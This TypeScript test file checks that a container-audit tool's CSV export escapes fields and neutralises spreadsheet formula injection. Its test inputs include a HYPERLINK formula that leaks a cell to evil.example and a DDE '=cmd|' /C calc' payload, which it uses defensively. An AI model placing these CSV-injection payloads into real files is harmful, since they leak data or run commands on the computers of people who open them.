import { expect } from "chai";
import { applyWaivers, subjectFactsFromSnapshot } from "../../src/engine/waivers.js";
import { CSV_COLUMNS, csvCell, renderCsv } from "../../src/report/csv.js";
import { container, snapshot } from "../support/fixtures.js";
import { reportOf } from "../engine/ops-fixture.js";
import { ANSI_MESSAGE, fixedReport, XSS_NAME } from "./fixed-report.js";
import { parseCsv } from "../support/csv.js";

const HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"click me")';

describe("report: CSV", () => {
  it("has a header and one row per finding with host, ids, title, level, severity, status, subject and message", () => {
    const report = fixedReport();
    const rows = parseCsv(renderCsv(report));
    expect(rows[0]).to.deep.equal([...CSV_COLUMNS]);
    expect(rows.length - 1).to.equal(report.results.reduce((n, r) => n + r.findings.length, 0));
    for (const row of rows) expect(row.length).to.equal(CSV_COLUMNS.length);
    const pid = rows.find((r) => r[1] === "5.16" && r[8] === "monitor")!;
    expect(pid.slice(0, 9)).to.deep.equal(["testhost", "5.16", "container-host-pid-namespace", "The host's process namespace is not shared", "1", "high", "waived", "container", "monitor"]);
    expect(pid[9]).to.equal(report.containers!.find((c) => c.name === "monitor")!.id);
    expect(pid[11]).to.equal("node exporter reads host processes (approved by sec-team, expires 2099-12-31)");
  });

  it("quotes commas, quotes and line breaks per RFC 4180, and strips ANSI and control characters", () => {
    const rows = parseCsv(renderCsv(fixedReport()));
    const hostile = rows.find((r) => r[1] === "X.92" && r[6] === "fail")!;
    expect(hostile[10]).to.contain("red with a NUL and a bell").and.not.match(/[\x00-\x08\x1b]/);
    expect(ANSI_MESSAGE).to.contain("\x1b");
    expect(rows.some((r) => r[8] === XSS_NAME)).to.equal(true);
    expect(csvCell('a "b", c\nd')).to.equal('"a ""b"", c\nd"');
  });

  it("neutralises every cell a spreadsheet would run as a formula, a label =HYPERLINK(...) included", () => {
    for (const s of ["=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx", "  =cmd|' /C calc'!A0", HYPERLINK]) {
      const cell = csvCell(s);
      const value = parseCsv(`${cell}\r\n`)[0]![0]!;
      expect(value.startsWith("'"), JSON.stringify(s)).to.equal(true);
    }
    expect(csvCell("a=b")).to.equal("a=b");
    const snap = snapshot({ containers: [container("shop", { HostConfig: { Privileged: true }, Config: { Labels: { note: HYPERLINK, "com.example.team": "@ops" } } })] });
    const report = applyWaivers(reportOf(snap, "1.8.0", ["5.5"]), [{ check: "5.5", containers: ["shop"], reason: "=cmd|' /C calc'!A0", approvedBy: "+sec", expires: "2099-12-31" }], subjectFactsFromSnapshot(snap));
    const rows = parseCsv(renderCsv(report));
    const shop = rows.find((r) => r[8] === "shop")!;
    // Inside the labels cell the formula is plain text: the cell starts with the label's key.
    expect(shop[12]).to.equal(`note=${HYPERLINK}; com.example.team=@ops`);
    expect(shop[11]).to.equal("'=cmd|' /C calc'!A0 (approved by +sec, expires 2099-12-31)");
    for (const row of rows.slice(1)) for (const cell of row) expect(cell, cell).to.not.match(/^[ ]*[=+\-@\t\r]/);
  });
});
